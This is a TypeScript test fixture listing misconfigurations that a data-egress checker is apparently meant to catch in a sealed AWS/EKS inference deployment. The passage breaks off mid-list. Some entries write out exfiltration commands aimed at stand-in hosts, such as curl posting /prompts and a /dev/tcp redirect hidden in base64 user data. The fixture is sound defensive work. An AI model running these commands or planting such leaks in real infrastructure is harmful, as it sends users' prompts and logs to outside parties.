import type { EgressWay } from '../../lib/config';
import { ACCOUNT, ELSEWHERE, FOREIGN, REGION, type Sealed } from './sealed';
import type { Mutable } from '../support/set-at';

/** One leak in a deployment without any. */
export interface Leak {
  readonly name: string;
  readonly kind: EgressWay | 'client' | 'region' | 'retention';
  readonly change: (sealed: Sealed) => void;
  /** Parts that stand in the path, in this order. */
  readonly path: readonly string[];
}

const ref = (id: string) => ({ Ref: id });
const leak = (name: string, kind: Leak['kind'], change: Leak['change'], ...path: string[]): Leak => ({
  name,
  kind,
  change,
  path,
});
const added = (name: string, kind: Leak['kind'], type: string, properties: Mutable, ...path: string[]): Leak =>
  leak(name, kind, (sealed) => sealed.add(type, properties), ...path);
const open = (Principal: unknown) => ({ Statement: [{ Effect: 'Allow', Action: '*', Resource: '*', Principal }] });
const foreign = (service: string, resource: string, region = REGION) =>
  `arn:aws:${service}:${region}:${FOREIGN}:${resource}`;
const elsewhere = (service: string, resource: string) => `arn:aws:${service}:${ELSEWHERE}:${ACCOUNT}:${resource}`;
const ROLE = `arn:aws:iam::${FOREIGN}:role/Somebody`;
const PODS = 'pods of Deployment serving/engine';

const routes: readonly Leak[] = [
  leak(
    'a route to an internet gateway',
    'internet-gateway',
    (sealed) => {
      sealed.add('AWS::EC2::InternetGateway');
      sealed.route('GatewayId', ref('Added'));
    },
    PODS,
    'NetworkPolicy serving/engine',
    'NodeGroup',
    'NodeGroupSg',
    'subnet sealed/Nodes',
    'route table sealed/Table',
    'sealed/WayOut',
    '0.0.0.0/0',
    'internet gateway sealed/Added',
    'internet',
  ),
  leak(
    'a route to half of the internet',
    'internet-gateway',
    (sealed) => sealed.route('GatewayId', 'igw-0123', { DestinationCidrBlock: '128.0.0.0/1' }),
    PODS,
    'route sealed/WayOut',
    'igw-0123',
    'internet',
  ),
  leak(
    'a route to a NAT gateway',
    'nat-gateway',
    (sealed) => {
      sealed.add('AWS::EC2::NatGateway', { SubnetId: ref('Service') });
      sealed.route('NatGatewayId', ref('Added'));
    },
    PODS,
    'route table sealed/Table',
    'NAT gateway sealed/Added',
    'internet',
  ),
  leak(
    'an egress-only internet gateway',
    'egress-only-gateway',
    (sealed) => {
      sealed.add('AWS::EC2::EgressOnlyInternetGateway', { VpcId: ref('Vpc') });
      sealed.route('EgressOnlyInternetGatewayId', ref('Added'), { DestinationIpv6CidrBlock: '::/0' });
    },
    'nodes of sealed/NodeGroup',
    'route sealed/WayOut',
    '::/0',
    'egress-only internet gateway',
    'internet',
  ),
  leak(
    'a route to a transit gateway',
    'transit-gateway',
    (sealed) => sealed.route('TransitGatewayId', 'tgw-0123', { DestinationCidrBlock: '10.0.0.0/8' }),
    PODS,
    'route sealed/WayOut',
    'tgw-0123',
  ),
  leak(
    'a route to a peering connection',
    'peering',
    (sealed) => {
      sealed.add('AWS::EC2::VPCPeeringConnection', { VpcId: ref('Vpc'), PeerVpcId: 'vpc-0123', PeerOwnerId: FOREIGN });
      sealed.route('VpcPeeringConnectionId', ref('Added'), { DestinationCidrBlock: '172.31.0.0/16' });
    },
    PODS,
    'peering connection sealed/Added',
    'vpc-0123',
  ),
  leak(
    'a route to a VPN gateway',
    'vpn',
    (sealed) => {
      sealed.add('AWS::EC2::VPNGateway');
      sealed.route('GatewayId', ref('Added'), { DestinationCidrBlock: '192.168.0.0/16' });
    },
    PODS,
    'VPN gateway sealed/Added',
  ),
  leak(
    'routes that a VPN gateway learns',
    'vpn',
    (sealed) => {
      sealed.add('AWS::EC2::VPNGateway');
      sealed.add(
        'AWS::EC2::VPNGatewayRoutePropagation',
        { VpnGatewayId: ref('Added'), RouteTableIds: [ref('Table')] },
        'Propagation',
      );
    },
    PODS,
    'sealed/Propagation',
    'VPN gateway',
  ),
  leak(
    'a route to an instance',
    'other-gateway',
    (sealed) => sealed.route('InstanceId', 'i-0123'),
    PODS,
    'route sealed/WayOut',
    'i-0123',
  ),
  leak(
    'a route to an interface',
    'other-gateway',
    (sealed) => sealed.route('NetworkInterfaceId', 'eni-0123'),
    PODS,
    'eni-0123',
  ),
  leak(
    'a route of a prefix list',
    'nat-gateway',
    (sealed) => sealed.route('NatGatewayId', 'nat-0123', { DestinationPrefixListId: ref('List') }),
    PODS,
    'of a prefix list',
    'nat-0123',
    'internet',
  ),
  leak(
    'a route in one branch of a condition',
    'nat-gateway',
    (sealed) => sealed.route('NatGatewayId', { 'Fn::If': ['Closed', ref('AWS::NoValue'), 'nat-0123'] }),
    PODS,
    'nat-0123',
    'internet',
  ),
  leak(
    'a table of somebody else',
    'unknown-route',
    (sealed) => sealed.set('NodesRoutes', 'RouteTableId', 'rtb-0123'),
    PODS,
    'route table rtb-0123',
  ),
  leak(
    'a public address of nodes',
    'public-address',
    (sealed) => sealed.set('Template', 'LaunchTemplateData.NetworkInterfaces.0.AssociatePublicIpAddress', true),
    'nodes of sealed/NodeGroup',
    'public address',
    'internet',
  ),
  leak(
    'a subnet that gives public addresses',
    'public-address',
    (sealed) => sealed.set('Nodes', 'MapPublicIpOnLaunch', true),
    'nodes of sealed/NodeGroup',
    'sealed/Nodes',
    'internet',
  ),
  leak(
    'an interface endpoint of somebody else',
    'interface-endpoint',
    (sealed) =>
      sealed.add('AWS::EC2::VPCEndpoint', {
        VpcEndpointType: 'Interface',
        ServiceName: `com.amazonaws.vpce.${REGION}.vpce-svc-0123`,
        SubnetIds: [ref('Service')],
      }),
    PODS,
    'subnet sealed/Nodes',
    'VPC endpoint sealed/Added',
    'vpce-svc-0123',
  ),
  added(
    'a resolver rule',
    'resolver',
    'AWS::Route53Resolver::ResolverRule',
    { RuleType: 'FORWARD', DomainName: 'corp', TargetIps: [{ Ip: '192.168.3.4' }] },
    'sealed/Added',
    'corp',
    '192.168.3.4',
  ),
  added(
    'name servers of somebody else',
    'resolver',
    'AWS::EC2::DHCPOptions',
    { DomainNameServers: ['9.9.9.9'] },
    'sealed/Added',
    '9.9.9.9',
  ),
];

const endpoints: readonly Leak[] = [
  leak(
    'an endpoint policy for everybody',
    'endpoint-policy',
    (sealed) => sealed.set('S3Endpoint', 'PolicyDocument', open('*')),
    PODS,
    'route table',
    'S3Endpoint',
    'Statement.0',
    'any account',
  ),
  leak(
    'an endpoint without a policy',
    'endpoint-policy',
    (sealed) => sealed.set('S3Endpoint', 'PolicyDocument', undefined),
    'S3Endpoint',
    'has no policy',
    'any account',
  ),
  leak(
    'a role that writes anywhere, past an endpoint that lets it',
    'role',
    (sealed) => {
      sealed.allow('s3:PutObject', '*');
      sealed.set('S3Endpoint', 'PolicyDocument.Statement.0.Condition', {
        StringEquals: { 'aws:PrincipalAccount': ACCOUNT },
      });
    },
    PODS,
    'EngineRole',
    'Statement.0',
    's3:PutObject on *',
    'S3Endpoint',
    'PolicyDocument.Statement.0',
  ),
  leak(
    'a role of a build that writes anywhere',
    'role',
    (sealed) => {
      sealed.add(
        'AWS::IAM::Role',
        { Policies: [{ PolicyDocument: { Statement: [{ Effect: 'Allow', NotAction: 'iam:*', Resource: '*' }] } }] },
        'BuildRole',
      );
      sealed.add('AWS::Scheduler::Schedule', {
        Target: { RoleArn: { 'Fn::GetAtt': ['BuildRole', 'Arn'] }, Arn: ref('Topic') },
      });
    },
    'sealed/Added',
    'BuildRole',
    'Policies.0.PolicyDocument.Statement.0',
  ),
  leak(
    'a role that shares snapshots',
    'role',
    (sealed) => sealed.allow('ec2:Modify*', '*'),
    PODS,
    'ec2:ModifySnapshotAttribute',
    'Ec2Endpoint',
  ),
  leak(
    'an administrator',
    'role',
    (sealed) => sealed.set('EngineRole', 'ManagedPolicyArns', ['arn:aws:iam::aws:policy/AdministratorAccess']),
    PODS,
    'AdministratorAccess',
    'Ec2Endpoint',
  ),
  leak(
    'a managed policy of somebody',
    'role',
    (sealed) => sealed.set('EngineRole', 'ManagedPolicyArns', [`arn:aws:iam::${ACCOUNT}:policy/Ours`]),
    PODS,
    'policy/Ours',
  ),
  leak(
    'a queue of another account',
    'role',
    (sealed) => sealed.allow('sqs:SendMessage', foreign('sqs', 'queue')),
    PODS,
    'sqs:SendMessage',
    FOREIGN,
  ),
  leak(
    'a role of another account to take',
    'role',
    (sealed) => sealed.allow('sts:AssumeRole', ROLE),
    PODS,
    'sts:AssumeRole',
    ROLE,
  ),
  leak(
    'a topic of another region',
    'role',
    (sealed) => sealed.allow('sns:Publish', elsewhere('sns', 'topic')),
    PODS,
    'sns:Publish',
    ELSEWHERE,
  ),
  leak(
    'a role that a pod takes in another account',
    'role',
    (sealed) => sealed.set('Association', 'TargetRoleArn', ROLE),
    'Association',
    ROLE,
  ),
];

const principals: readonly Leak[] = [
  leak(
    'PrivateLink for everybody',
    'endpoint-service',
    (sealed) => sealed.set('Permissions', 'AllowedPrincipals.0', '*'),
    'everybody',
    'AllowedPrincipals.0',
    'Permissions',
  ),
  leak(
    'PrivateLink for another account',
    'endpoint-service',
    (sealed) => sealed.set('Permissions', 'AllowedPrincipals.0', `arn:aws:iam::${FOREIGN}:root`),
    FOREIGN,
    'Permissions',
  ),
  leak(
    'PrivateLink for whom only the deployment knows',
    'endpoint-service',
    (sealed) => sealed.set('Permissions', 'AllowedPrincipals', [ref('Consumer')]),
    'AllowedPrincipals.0',
    'Permissions',
  ),
  leak(
    'an access entry of another account',
    'cluster-access',
    (sealed) => sealed.set('Admin', 'PrincipalArn', ROLE),
    ROLE,
    'Admin',
  ),
  leak(
    'a public control plane',
    'cluster-access',
    (sealed) => sealed.set('Cluster', 'ResourcesVpcConfig.EndpointPublicAccess', true),
    '0.0.0.0/0',
    'Cluster',
  ),
  leak(
    'a control plane of which nothing is said',
    'cluster-access',
    (sealed) => sealed.set('Cluster', 'ResourcesVpcConfig.EndpointPublicAccess', undefined),
    '0.0.0.0/0',
    'Cluster',
  ),
  leak(
    'a role that another account takes',
    'trust',
    (sealed) => sealed.set('EngineRole', 'AssumeRolePolicyDocument.Statement.0.Principal', { AWS: ROLE }),
    ROLE,
    'AssumeRolePolicyDocument.Statement.0',
    'EngineRole',
  ),
  leak(
    'a role for identities of another provider',
    'trust',
    (sealed) =>
      sealed.set('EngineRole', 'AssumeRolePolicyDocument.Statement.0.Principal', {
        Federated: `arn:aws:iam::${ACCOUNT}:oidc-provider/token.actions.githubusercontent.com`,
      }),
    'githubusercontent',
    'EngineRole',
  ),
  leak(
    'a bucket of another account',
    'resource-policy',
    (sealed) => sealed.set('BucketPolicy', 'PolicyDocument.Statement.0', open({ AWS: FOREIGN }).Statement[0]),
    FOREIGN,
    'PolicyDocument.Statement.0',
    'BucketPolicy',
  ),
  leak(
    'a key that is shared',
    'resource-policy',
    (sealed) => sealed.set('Key', 'KeyPolicy.Statement.1', open({ AWS: [ROLE] }).Statement[0]),
    ROLE,
    'KeyPolicy.Statement.1',
    'sealed/Key',
  ),
  added(
    'a repository for another account',
    'resource-policy',
    'AWS::ECR::Repository',
    { RepositoryPolicyText: open({ AWS: ROLE }) },
    ROLE,
    'RepositoryPolicyText',
    'Added',
  ),
  added(
    'a queue for everybody',
    'resource-policy',
    'AWS::SQS::QueuePolicy',
    { PolicyDocument: open('*') },
    'everybody',
    'Added',
  ),
  added(
    'an event bus for an organization',
    'resource-policy',
    'AWS::Events::EventBusPolicy',
    { Principal: '*' },
    'everybody',
    'Added',
  ),
  added(
    'a function for another account',
    'resource-policy',
    'AWS::Lambda::Permission',
    { Principal: FOREIGN },
    FOREIGN,
    'Added',
  ),
  added(
    'a vault for another account',
    'resource-policy',
    'AWS::Backup::BackupVault',
    { AccessPolicy: open({ AWS: ROLE }) },
    ROLE,
    'AccessPolicy',
  ),
];

const deliveries: readonly Leak[] = [
  leak(
    'a bucket replicated to another region',
    'replication',
    (sealed) => {
      sealed.stack = { ...sealed.stack };
      sealed.set('Bucket', 'ReplicationConfiguration', {
        Rules: [{ Destination: { Bucket: 'arn:aws:s3:::copy-elsewhere', Account: FOREIGN } }],
      });
    },
    'sealed/Bucket',
    'ReplicationConfiguration.Rules.0.Destination.Bucket',
    'copy-elsewhere',
  ),
  leak(
    'a secret replicated',
    'replication',
    (sealed) => sealed.set('Secret', 'ReplicaRegions', [{ Region: ELSEWHERE }]),
    'Secret',
    ELSEWHERE,
  ),
  added(
    'images replicated to another region',
    'replication',
    'AWS::ECR::ReplicationConfiguration',
    { ReplicationConfiguration: { Rules: [{ Destinations: [{ Region: ELSEWHERE, RegistryId: ACCOUNT }] }] } },
    'Added',
    ELSEWHERE,
  ),
  added(
    'images replicated to another account',
    'replication',
    'AWS::ECR::ReplicationConfiguration',
    { ReplicationConfiguration: { Rules: [{ Destinations: [{ Region: REGION, RegistryId: FOREIGN }] }] } },
    'Added',
    FOREIGN,
  ),
  leak(
    'a key of several regions',
    'replication',
    (sealed) => sealed.set('Key', 'MultiRegion', true),
    'sealed/Key',
    'MultiRegion',
    'any region',
  ),
  added(
    'a backup copied to another region',
    'replication',
    'AWS::Backup::BackupPlan',
    {
      BackupPlan: {
        BackupPlanRule: [{ CopyActions: [{ DestinationBackupVaultArn: elsewhere('backup', 'backup-vault:v') }] }],
      },
    },
    'Added',
    ELSEWHERE,
  ),
  added(
    'snapshots shared',
    'share',
    'AWS::DLM::LifecyclePolicy',
    { PolicyDetails: { Schedules: [{ ShareRules: [{ TargetAccounts: [FOREIGN] }] }] } },
    'Added',
    'TargetAccounts',
    FOREIGN,
  ),
  added(
    'a snapshot shared by a call',
    'share',
    'Custom::AWS',
    { Create: '{"service":"EC2","action":"modifySnapshotAttribute","parameters":{"SnapshotId":"snap-1"}}' },
    'Added',
    'ec2:ModifySnapshotAttribute',
  ),
  added(
    'a share of Resource Access Manager',
    'share',
    'AWS::RAM::ResourceShare',
    { Principals: [FOREIGN], ResourceArns: [] },
    'Added',
    FOREIGN,
  ),
  added(
    'a sink of CloudWatch',
    'share',
    'AWS::Oam::Link',
    { SinkIdentifier: foreign('oam', 'sink/s') },
    'Added',
    FOREIGN,
  ),
  added(
    'logs to another account',
    'delivery',
    'AWS::Logs::SubscriptionFilter',
    { LogGroupName: ref('LogGroup'), DestinationArn: foreign('logs', 'destination:d') },
    'Added',
    'DestinationArn',
    FOREIGN,
  ),
  leak(
    'flow logs into a bucket of somebody',
    'delivery',
    (sealed) => sealed.set('FlowLog', 'LogDestination', 'arn:aws:s3:::logs-of-somebody'),
    'FlowLog',
    'LogDestination',
    'logs-of-somebody',
  ),
  leak(
    'events to the bus of another account',
    'delivery',
    (sealed) => sealed.set('Rule', 'Targets.0.Arn', foreign('events', 'event-bus/b')),
    'sealed/Rule',
    'Targets.0.Arn',
    FOREIGN,
  ),
  leak(
    'events to what only the deployment knows',
    'delivery',
    (sealed) => {
      sealed.template = { Parameters: { Bus: { Type: 'String' } } };
      sealed.set('Rule', 'Targets.0.Arn', ref('Bus'));
    },
    'sealed/Rule',
    'Bus',
  ),
  added(
    'a stream to a host',
    'delivery',
    'AWS::KinesisFirehose::DeliveryStream',
    { HttpEndpointDestinationConfiguration: { EndpointConfiguration: { Url: 'https://logs.example.com/in' } } },
    'Added',
    'logs.example.com',
  ),
  added(
    'a stream to a bucket of somebody',
    'delivery',
    'AWS::KinesisFirehose::DeliveryStream',
    { ExtendedS3DestinationConfiguration: { BucketARN: 'arn:aws:s3:::theirs' } },
    'Added',
    'theirs',
  ),
  added(
    'mail',
    'message',
    'AWS::SNS::Subscription',
    { TopicArn: ref('Topic'), Protocol: 'email', Endpoint: 'a@example.com' },
    'Added',
    'email',
    'a@example.com',
  ),
  added(
    'a web hook',
    'message',
    'AWS::SNS::Subscription',
    { TopicArn: ref('Topic'), Protocol: 'https', Endpoint: 'https://hooks.example.com/x' },
    'Added',
    'hooks.example.com',
  ),
  leak(
    'mail of a topic itself',
    'message',
    (sealed) => sealed.set('Topic', 'Subscription', [{ Protocol: 'sms', Endpoint: '+491701234567' }]),
    'Topic',
    'sms',
  ),
  leak(
    'alarms to another account',
    'message',
    (sealed) => sealed.add('AWS::CloudWatch::Alarm', { AlarmActions: [foreign('sns', 't')] }),
    'Added',
    FOREIGN,
  ),
  leak(
    'a function outside of the VPC',
    'function',
    (sealed) => sealed.set('Function', 'VpcConfig', undefined),
    'sealed/Function',
    'internet',
  ),
  added(
    'a URL of a function',
    'public-url',
    'AWS::Lambda::Url',
    { AuthType: 'NONE', TargetFunctionArn: ref('Function') },
    'everybody',
    'NONE',
    'Added',
  ),
  added('a build outside of the VPC', 'build', 'AWS::CodeBuild::Project', {}, 'Added', 'internet'),
  added(
    'a cache of another registry',
    'registry',
    'AWS::ECR::PullThroughCacheRule',
    { UpstreamRegistryUrl: 'registry-1.docker.io' },
    'Added',
    'registry-1.docker.io',
  ),
  added(
    'a template in another file',
    'unknown-type',
    'AWS::CloudFormation::Stack',
    { TemplateURL: 'https://s3.amazonaws.com/b/t.json' },
    'Added',
    'TemplateURL',
  ),
  leak(
    'a macro',
    'unknown-type',
    (sealed) => (sealed.template = { Transform: ['Somebodys'] }),
    'stack sealed',
    'Transform Somebodys',
  ),
  added(
    'a type that nobody thought about',
    'unknown-type',
    'AWS::Somebody::Thing',
    {},
    'Added',
    'AWS::Somebody::Thing',
  ),
  added(
    'a nested text that names another account',
    'named-address',
    'AWS::SSM::Parameter',
    { Value: { 'Fn::Sub': `send to ${foreign('sqs', 'q')}` } },
    'Added',
    FOREIGN,
  ),
];

const inCluster: readonly Leak[] = [
  leak(
    'a default deny that is gone',
    'open-pod',
    (sealed) => sealed.drop('NetworkPolicy', 'default-deny'),
    'any other pod of namespace serving',
    'no NetworkPolicy',
  ),
  leak(
    'a NetworkPolicy that selects nobody',
    'open-pod',
    (sealed) =>
      ((sealed.object('NetworkPolicy', 'default-deny')['spec'] as Mutable)['podSelector'] = {
        matchLabels: { app: 'none' },
      }),
    'any other pod',
    'no NetworkPolicy',
  ),
  leak(
    'a pod in the network of its node',
    'host-network',
    (sealed) => (sealed.pod['hostNetwork'] = true),
    PODS,
    'hostNetwork',
  ),
  leak(
    'an image of another registry',
    'registry',
    (sealed) => (sealed.engine.image = 'docker.io/vllm/vllm-openai:latest'),
    PODS,
    'docker.io',
  ),
  leak(
    'an image without a registry',
    'registry',
    (sealed) => (sealed.engine.image = 'vllm/vllm-openai'),
    PODS,
    'docker.io',
  ),
  leak(
    'an image of another account',
    'registry',
    (sealed) => (sealed.engine.image = sealed.engine.image.replace(ACCOUNT, FOREIGN)),
    PODS,
    FOREIGN,
  ),
  leak(
    'an image of another region',
    'registry',
    (sealed) => (sealed.engine.image = sealed.engine.image.replace(REGION, ELSEWHERE)),
    PODS,
    ELSEWHERE,
  ),
  leak(
    'a name that stands for a host',
    'named-address',
    (sealed) =>
      sealed.objects.push({
        kind: 'Service',
        metadata: { name: 'x', namespace: 'serving' },
        spec: { type: 'ExternalName', externalName: 'api.example.com' },
      }),
    'Service serving/x',
    'api.example.com',
  ),
  leak(
    'endpoints elsewhere',
    'named-address',
    (sealed) =>
      sealed.objects.push({
        kind: 'EndpointSlice',
        metadata: { name: 'x', namespace: 'serving' },
        endpoints: [{ addresses: ['203.0.113.9'] }],
      }),
    'EndpointSlice',
    '203.0.113.9',
  ),
  leak(
    'metrics written to another region',
    'named-address',
    (sealed) =>
      setData(
        sealed,
        `remote_write:\n  - url: https://aps-workspaces.${ELSEWHERE}.amazonaws.com/workspaces/ws-1/api/v1/remote_write\n`,
      ),
    'ConfigMap serving/door',
    'aps-workspaces',
  ),
  leak(
    'traces to a host',
    'named-address',
    (sealed) => sealed.engine.env.push({ name: 'OTEL_EXPORTER_OTLP_ENDPOINT', value: 'https://otel.example.com:4317' }),
    'Deployment serving/engine',
    'otel.example.com',
  ),
  leak(
    'traces to a host without a scheme',
    'named-address',
    (sealed) => sealed.engine.args.push('--otlp-traces-endpoint', 'otel.example.com:4317'),
    'Deployment serving/engine',
    'otel.example.com',
  ),
  leak(
    'a proxy',
    'named-address',
    (sealed) => sealed.engine.env.push({ name: 'HTTPS_PROXY', value: 'proxy.example.com' }),
    'Deployment serving/engine',
    'proxy.example.com',
  ),
  leak(
    'another region for the SDK',
    'named-address',
    (sealed) => sealed.engine.env.push({ name: 'AWS_DEFAULT_REGION', value: ELSEWHERE }),
    'Deployment serving/engine',
    ELSEWHERE,
  ),
  leak(
    'a web hook of admission',
    'named-address',
    (sealed) =>
      sealed.objects.push({
        kind: 'ValidatingWebhookConfiguration',
        metadata: { name: 'x' },
        webhooks: [{ clientConfig: { url: 'https://hook.example.com' } }],
      }),
    'hook.example.com',
  ),
  leak(
    'weights of a bucket of somebody',
    'named-address',
    (sealed) => (sealed.engine.args[0] = 's3://foreign/model'),
    'Deployment serving/engine',
    's3://foreign',
    'bucket foreign',
  ),
  leak(
    'a flag with an address',
    'named-address',
    (sealed) => sealed.engine.args.push('--chat-template=http://files.example.com/t.jinja'),
    'files.example.com',
  ),
  leak(
    'an address in a secret',
    'named-address',
    (sealed) =>
      sealed.objects.push({
        kind: 'Secret',
        metadata: { name: 'x', namespace: 'serving' },
        data: { url: Buffer.from('https://vault.example.com').toString('base64') },
      }),
    'Secret serving/x',
    'vault.example.com',
  ),
  leak(
    'a resolver in CoreDNS',
    'resolver',
    (sealed) => setData(sealed, '.:53 {\n  forward . 8.8.8.8\n}\n', 'Corefile'),
    'ConfigMap serving/door',
    '8.8.8.8',
  ),
  leak(
    'name servers of a pod',
    'resolver',
    (sealed) => (sealed.pod['dnsConfig'] = { nameservers: ['1.1.1.1'] }),
    '1.1.1.1',
  ),
  leak(
    'an engine that reports its use',
    'named-address',
    (sealed) => sealed.engine.env.splice(0, 1),
    PODS,
    'stats.vllm.ai',
  ),
  leak(
    'an engine that asks the hub',
    'named-address',
    (sealed) => sealed.engine.env.splice(1, 1),
    PODS,
    'huggingface.co',
  ),
  leak(
    'bodies in the log of the door',
    'content-log',
    (sealed) => setData(sealed, 'frontend f\n  log-format "%ST %[req.body]"\n', 'haproxy.cfg'),
    'ConfigMap serving/door',
    'req.body',
  ),
  leak(
    'headers in the log of the door',
    'content-log',
    (sealed) => setData(sealed, 'frontend f\n  capture request header Authorization len 64\n', 'haproxy.cfg'),
    'capture request header',
  ),
  leak(
    'prompts in the log of the engine',
    'content-log',
    (sealed) => sealed.engine.args.push('--enable-log-requests'),
    PODS,
    '--enable-log-requests',
  ),
];

const more: readonly Leak[] = [
  leak(
    'a security group of nodes for everybody',
    'client',
    (sealed) => sealed.set('NodeGroupSg', 'SecurityGroupIngress', [{ IpProtocol: '-1', CidrIp: '0.0.0.0/0' }]),
    '0.0.0.0/0',
    'SecurityGroupIngress.0',
    'NodeGroupSg',
  ),
  leak(
    'logs of a load balancer in a bucket of somebody',
    'delivery',
    (sealed) => sealed.set('Balancer', 'LoadBalancerAttributes', [{ Key: 'access_logs.s3.bucket', Value: 'theirs' }]),
    'sealed/Balancer',
    'theirs',
  ),
  leak(
    'a target elsewhere',
    'delivery',
    (sealed) => sealed.set('TargetGroup', 'Targets', [{ Id: '203.0.113.5' }]),
    'sealed/TargetGroup',
    '203.0.113.5',
  ),
  added(
    'name servers in an add-on',
    'named-address',
    'AWS::EKS::Addon',
    { ConfigurationValues: JSON.stringify({ corefile: '.:53 { forward . 9.9.9.9 }' }) },
    'Added',
    '9.9.9.9',
  ),
  added(
    'an image in values of Helm',
    'registry',
    'Custom::AWSCDK-EKS-HelmChart',
    { Values: JSON.stringify({ image: { repository: 'quay.io/x/y' } }) },
    'Added',
    'quay.io',
  ),
  added(
    'a service that acts for another account',
    'resource-policy',
    'AWS::SNS::TopicPolicy',
    {
      PolicyDocument: {
        Statement: [
          {
            Effect: 'Allow',
            Action: '*',
            Resource: '*',
            Principal: { Service: 's3.amazonaws.com' },
            Condition: { StringEquals: { 'aws:SourceAccount': FOREIGN } },
          },
        ],
      },
    },
    FOREIGN,
    'Added',
  ),
  added(
    'a record that leads elsewhere',
    'named-address',
    'AWS::Route53::RecordSet',
    { ResourceRecords: ['api.example.com'] },
    'Added',
    'api.example.com',
  ),
  leak(
    'a program that calls a host',
    'named-address',
    (sealed) =>
      (sealed.pod['initContainers'] = [
        { name: 'i', image: sealed.engine.image, command: ['sh', '-c', 'curl -d @/prompts in.example.com/x'] },
      ]),
    'Deployment serving/engine',
    'in.example.com',
  ),
  leak(
    'a volume of an image elsewhere',
    'registry',
    (sealed) => (sealed.pod['volumes'] = [{ name: 'v', image: { reference: 'ghcr.io/a/b:1' } }]),
    PODS,
    'ghcr.io',
  ),
  leak(
    'a server by its address in a file',
    'named-address',
    (sealed) => setData(sealed, 'backend b\n  server s 203.0.113.7:9000 check\n', 'proxy.cfg'),
    'ConfigMap serving/door',
    '203.0.113.7',
  ),
  leak(
    'a host in settings of a log shipper',
    'named-address',
    (sealed) => setData(sealed, '[OUTPUT]\n    Name  http\n    Host  logs.example.com\n', 'fluent-bit.conf'),
    'ConfigMap serving/door',
    'logs.example.com',
  ),
];

const clients: readonly Leak[] = [
  leak(
    'a public load balancer',
    'load-balancer',
    (sealed) => sealed.set('Balancer', 'Scheme', 'internet-facing'),
    'internet',
    'internet-facing',
    'sealed/Balancer',
  ),
  leak(
    'a load balancer whose scheme nobody says',
    'load-balancer',
    (sealed) => sealed.set('Balancer', 'Scheme', undefined),
    'internet',
    'sealed/Balancer',
  ),
  leak(
    'a security group for everybody',
    'client',
    (sealed) => sealed.set('BalancerSg', 'SecurityGroupIngress.0.CidrIp', '0.0.0.0/0'),
    '0.0.0.0/0',
    'BalancerSg',
    'sealed/Balancer',
    'Listener',
    'TargetGroup',
    'Service serving/engine',
    'NetworkPolicy serving/engine',
    PODS,
  ),
  leak(
    'a rule beside the security group',
    'client',
    (sealed) =>
      sealed.add('AWS::EC2::SecurityGroupIngress', {
        GroupId: { 'Fn::GetAtt': ['BalancerSg', 'GroupId'] },
        CidrIpv6: '2001:db8::/32',
      }),
    '2001:db8::/32',
    'sealed/Added',
    PODS,
  ),
  leak(
    'a Service that faces the internet',
    'load-balancer',
    (sealed) =>
      sealed.objects.push({
        kind: 'Service',
        metadata: {
          name: 'x',
          namespace: 'serving',
          annotations: { 'service.beta.kubernetes.io/aws-load-balancer-scheme': 'internet-facing' },
        },
        spec: { type: 'LoadBalancer', loadBalancerSourceRanges: ['10.0.0.0/8'] },
      }),
    'internet',
    'internet-facing',
    'Service serving/x',
  ),
  leak(
    'an Ingress that faces the internet',
    'load-balancer',
    (sealed) =>
      sealed.objects.push({
        kind: 'Ingress',
        metadata: {
          name: 'x',
          namespace: 'serving',
          annotations: { 'alb.ingress.kubernetes.io/scheme': 'internet-facing' },
        },
        spec: {},
      }),
    'internet',
    'Ingress serving/x',
  ),
];

const rest: readonly Leak[] = [
  leak(
    'a stack in another region',
    'region',
    (sealed) => (sealed.stack = { account: ACCOUNT, region: ELSEWHERE }),
    'sealed/',
    ELSEWHERE,
  ),
  leak(
    'logs for ever',
    'retention',
    (sealed) => sealed.set('LogGroup', 'RetentionInDays', undefined),
    'LogGroup',
    'for ever',
  ),
  leak('logs for a week', 'retention', (sealed) => sealed.set('LogGroup', 'RetentionInDays', 7), 'LogGroup', '7'),
  leak(
    'access logs for ever',
    'retention',
    (sealed) => sealed.set('Logs', 'LifecycleConfiguration', undefined),
    'sealed/Logs',
    'for ever',
  ),
];

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const userData = (name: string, value: unknown, ...path: string[]): Leak =>
  leak(
    name,
    'named-address',
    (sealed) => sealed.set('Template', 'LaunchTemplateData.UserData', value),
    'sealed/Template',
    'UserData',
    ...path,
  );
const SCRIPT = '#!/bin/bash\n# https://docs.example.org\nexport FORWARD_HOST=logs.example.com\n';

/** Encoded, and in programs of nodes. */
const encoded: readonly Leak[] = [
  userData('a host in user data', base64(SCRIPT), 'line 3', 'logs.example.com'),
  userData('a host in user data of an intrinsic', { 'Fn::Base64': { 'Fn::Sub': SCRIPT } }, 'logs.example.com'),
  userData('a short script of nodes', base64('curl x.io'), 'x.io'),
  userData('user data with other letters', base64('# grüße\ncurl -T - https://in.example.com/x\n'), 'in.example.com'),
  userData('user data in user data', base64(`write_files:\n- content: ${base64(SCRIPT)}\n`), 'logs.example.com'),
  userData('a registry in user data', base64('set -e\ndocker run --rm quay.io/x/agent:1\n'), 'quay.io'),
  userData('an account in user data', base64(`aws sts assume-role --role-arn ${ROLE}\n`), ROLE),
  userData('a queue in user data', base64(`export QUEUE=${foreign('sqs', 'q')}\n`), FOREIGN),
  userData(
    'a bucket in user data',
    base64('aws s3 sync /var/log s3://theirs/logs --only-show-errors\n'),
    'bucket theirs',
  ),
  userData('a region in user data', base64(`AWS_REGION=${ELSEWHERE}\nstart-the-agent --now\n`), ELSEWHERE),
  userData('a repository in user data', base64('git clone git@code.example.com:x/y.git /opt/y\n'), 'code.example.com'),
  userData('a socket of a shell', base64('cat /prompts > /dev/tcp/in.example.com/443\n'), 'in.example.com'),
  userData(
    'a continued line',
    base64('agent \\\n  --endpoint https://in.example.com \\\n  --quiet\n'),
    'in.example.com',
  ),
  leak(
    'a variable in base64',
    'named-address',
    (sealed) => sealed.engine.env.push({ name: 'SETTINGS', value: base64('{"sink":"https://in.example.com/v1"}') }),
    'Deployment serving/engine',
    'in.example.com',
  ),
  leak(
    'a binary file of a ConfigMap',
    'named-address',
    (sealed) => {
      sealed.object('ConfigMap', 'door')['binaryData'] = { 'agent.conf': base64('url = https://in.example.com/v1\n') };
    },
    'ConfigMap serving/door',
    'in.example.com',
  ),
  leak(
    'an address in hex',
    'named-address',
    (sealed) => sealed.engine.args.push(Buffer.from('https://in.example.com/v1').toString('hex')),
    'in.example.com',
  ),
];

/** Services that move data. */
const movers: readonly Leak[] = [
  added(
    'a rule of IoT with a host',
    'delivery',
    'AWS::IoT::TopicRule',
    { TopicRulePayload: { Sql: 'SELECT *', Actions: [{ Http: { Url: 'https://in.example.com' } }] } },
